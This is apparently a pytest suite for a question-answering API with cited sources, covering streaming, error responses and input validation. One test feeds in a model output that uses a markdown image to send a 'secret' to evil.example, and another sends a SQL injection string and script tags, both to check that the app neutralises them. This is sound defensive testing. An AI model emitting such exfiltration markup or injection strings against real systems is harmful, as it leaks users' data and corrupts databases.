"""A question over HTTP: whole, streamed, and wrong."""

import hashlib
import json
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from backend.language_model import ModelFailed
from tests.backend.conftest import StartApp
from tests.backend.reading import EVENT_STREAM, active_content, ask, events_of, stream
from tests.fakes import FakeModel

ASK = "What is gradient descent?"
GROUNDED = "Gradient descent lowers a cost step by step. "
OF_EACH_STEP = {
    1: "How do I filter a list in one line?",
    2: "What does a derivative mean in plain words?",
    3: "operands could not be broadcast together",
    4: "My training accuracy is 99% but the test accuracy is bad",
    5: "What are query, key and value?",
    6: "How do I start my first Kaggle competition?",
}


def assert_sources_are_true(client: TestClient, answer: dict[str, Any]) -> None:
    """Every source against the passage that it names, by the definition of the contract."""
    for source in answer["sources"]:
        address = f"/api/v1/passages/{quote(answer['snapshot'])}/{source['passage_id']}"
        passage = client.get(address).json()
        assert passage["text"][source["start"] : source["end"]] == source["quote"]
        assert hashlib.sha256(source["quote"].encode()).hexdigest() == source["sha256"]
        assert (source["title"], source["heading"], source["step"]) == (
            passage["title"],
            passage["heading"],
            passage["step"],
        )
        assert source["locator"]["path"] == passage["locator"]["path"]


@pytest.mark.parametrize(("step", "question"), OF_EACH_STEP.items())
def test_a_question_of_each_step_is_answered_with_its_step_and_true_sources(
    client: TestClient, step: int, question: str
) -> None:
    answer = ask(client, question)
    assert answer["status"] == "answered"
    assert answer["step"]["number"] == step
    assert answer["concepts"]
    assert answer["sources"]
    assert_sources_are_true(client, answer)


def test_the_sources_of_an_explanation_are_true_too(app_with: StartApp) -> None:
    client = app_with(
        FakeModel(is_strong=True).will_say(GROUNDED, "It moves every weight a little against its slope. ")
    )
    answer = ask(client, ASK)
    assert answer["engine"] == "fake"
    assert [sentence["origin"] for sentence in answer["sentences"]].count("model") == 2
    assert_sources_are_true(client, answer)


def test_every_sentence_has_an_origin_and_the_citations_that_go_with_it(app_with: StartApp) -> None:
    client = app_with(FakeModel().will_say(GROUNDED, "Paris lies in France. "))
    answer = ask(client, ASK)
    numbers = {source["n"] for source in answer["sources"]}
    for sentence in answer["sentences"]:
        assert bool(sentence["citations"]) == (sentence["origin"] != "general")
        assert set(sentence["citations"]) <= numbers
        if sentence["origin"] == "quote":
            (number,) = sentence["citations"]
            assert sentence["text"] == answer["sources"][number - 1]["quote"]
    assert {sentence["origin"] for sentence in answer["sentences"]} == {"quote", "model", "general"}


def test_what_is_far_off_is_not_covered(client: TestClient) -> None:
    answer = ask(client, "what is the best pizza in Rome")
    assert answer["status"] == "not_covered"
    assert (answer["sources"], answer["concepts"], answer["sentences"], answer["step"]) == ([], [], [], None)
    assert all(concept.keys() == {"id", "name"} for concept in answer["nearest"])
    assert answer["nearest"]


def test_a_stream_tells_the_same_as_the_whole_answer(client: TestClient) -> None:
    told = dict(stream(client, ASK))["done"]
    whole = ask(client, ASK)
    changing = ("id", "conversation_id", "timings_ms")
    assert {key: value for key, value in told.items() if key not in changing} == {
        key: value for key, value in whole.items() if key not in changing
    }


def test_the_events_of_a_stream_come_in_order_with_their_shapes(app_with: StartApp) -> None:
    told = stream(app_with(FakeModel().will_say(GROUNDED)), ASK)
    names = [name for name, _ in told]
    shown = [name for name in names if name != "sources"]
    quotes = names.count("quote")
    assert names[1] == "sources"
    assert shown == ["understood", *["quote"] * quotes, "token", "sentence", "done"]
    shapes = {name: set(data) for name, data in told}
    assert shapes["understood"] == {"step", "concepts", "standalone_question"}
    assert shapes["sources"] == {"sources"}
    assert shapes["quote"] == shapes["sentence"] == {"sentence"}
    assert shapes["token"] == {"text"}
    assert "answer" in shapes["done"]


def test_a_model_that_breaks_off_loses_no_quote(app_with: StartApp) -> None:
    client = app_with(FakeModel().will_say(GROUNDED, ModelFailed("The language model broke off: quota.")))
    told = stream(client, ASK)
    assert [name for name, _ in told[-2:]] == ["notice", "done"]
    done = told[-1][1]
    assert done["degraded"] == told[-2][1]["message"] == "The language model broke off: quota."
    assert [sentence["origin"] for sentence in done["sentences"]].count("quote") >= 1
    assert_sources_are_true(client, done)


def test_an_error_in_the_middle_of_a_stream_is_an_event(app_with: StartApp) -> None:
    told = stream(app_with(FakeModel().will_say(GROUNDED, ZeroDivisionError("a bug"))), ASK)
    name, data = told[-1]
    assert name == "error"
    assert data["problem"]["status"] == 500
    assert "ask again" in data["problem"]["detail"]
    assert "bug" not in json.dumps(data)


def test_nothing_of_a_model_acts_on_the_reader(app_with: StartApp) -> None:
    hostile = "![x](https://evil.example/p.png?q=secret) <img src=x> [here](//evil.example) gradient\u200b descent. "
    told = stream(app_with(FakeModel().will_say(GROUNDED, hostile)), ASK)
    assert active_content(told[-1][1]["answer"]) == []
    assert not [bad for bad in ("evil", "<img", "\\u200b", "\u200b") if bad in json.dumps(told, ensure_ascii=False)]


def test_a_conversation_goes_on_with_its_id(client: TestClient) -> None:
    first = ask(client, ASK)
    second = ask(client, "and how does it go wrong?", conversation_id=first["conversation_id"])
    assert second["conversation_id"] == first["conversation_id"]
    assert second["concepts"][0]["id"] == "gradient-descent"


def test_a_history_is_understood_without_a_conversation(client: TestClient) -> None:
    history = [{"role": "user", "content": ASK}, {"role": "assistant", "content": "It lowers a cost."}]
    answer = ask(client, "give me an example", history=history)
    assert answer["concepts"][0]["id"] == "gradient-descent"


WRONG: list[tuple[str, dict[str, object], int, str]] = [
    ("empty", {"question": ""}, 400, "type what you want to know"),
    ("blank", {"question": " \n\t"}, 400, "type what you want to know"),
    ("too long", {"question": "a" * 100_000}, 413, "Ask about one part of it"),
    ("no such step", {"question": ASK, "step": 9}, 400, "choose one from 1 to 6"),
    ("no question", {}, 422, "question: Field required"),
    ("a number for a question", {"question": 7}, 422, "question: "),
    ("null for a question", {"question": None}, 422, "question: "),
    ("no such mode", {"question": ASK, "mode": "shout"}, 422, "mode: "),
    ("a word for a step", {"question": ASK, "step": "four"}, 422, "step: "),
    ("a number for a history", {"question": ASK, "history": 3}, 422, "history: "),
    ("a role that is none", {"question": ASK, "history": [{"role": "dog", "content": "x"}]}, 422, "history.0.role"),
    ("a long conversation id", {"question": ASK, "conversation_id": "x" * 65}, 422, "conversation_id: "),
]


@pytest.mark.parametrize("headers", [{}, EVENT_STREAM], ids=["whole", "stream"])
@pytest.mark.parametrize(("case", "body", "status", "words"), WRONG, ids=[case[0] for case in WRONG])
def test_a_wrong_request_is_a_problem_that_says_what_to_do(
    client: TestClient, case: str, body: dict[str, object], status: int, words: str, headers: dict[str, str]
) -> None:
    content = json.dumps(body).encode()
    response = client.post("/api/v1/ask", content=content, headers={"content-type": "application/json", **headers})
    assert response.status_code == status
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["status"] == status
    assert problem["title"]
    assert problem["type"].startswith("urn:stepwise:")
    assert words in problem["detail"]


@pytest.mark.parametrize("body", [b"{", b"", b"[1, 2]", b'"text"', b"\xff\xfe"])
def test_broken_json_is_a_problem(client: TestClient, body: bytes) -> None:
    response = client.post("/api/v1/ask", content=body, headers={"content-type": "application/json"})
    assert response.status_code in (400, 422)
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["detail"]


def test_a_body_beyond_all_measure_is_not_read(client: TestClient) -> None:
    assert client.post("/api/v1/ask", json={"question": "a" * 5 * 2**20}).status_code == 413


@pytest.mark.parametrize("field", ["question", "conversation_id", "learner_id"])
def test_half_a_character_is_no_reason_to_fail(client: TestClient, field: str) -> None:
    content = json.dumps({"question": ASK, field: "what is a list\ud83d"}).encode()
    response = client.post("/api/v1/ask", content=content, headers={"content-type": "application/json"})
    assert response.status_code == 200
    assert response.json()["status"] == "answered"


@pytest.mark.parametrize(
    "question",
    ["\x00 lists", "lists'; DROP TABLE turns; --", "🙂 lists 学习 \u202e", "<script>lists</script>", "lists " * 3000],
)
def test_an_odd_question_is_answered_like_any_other(client: TestClient, question: str) -> None:
    answer = ask(client, question)
    assert answer["question"] == question
    assert answer["status"] in ("answered", "not_covered")
    assert (
        events_of(client.post("/api/v1/ask", json={"question": question}, headers=EVENT_STREAM).text)[-1][0] == "done"
    )
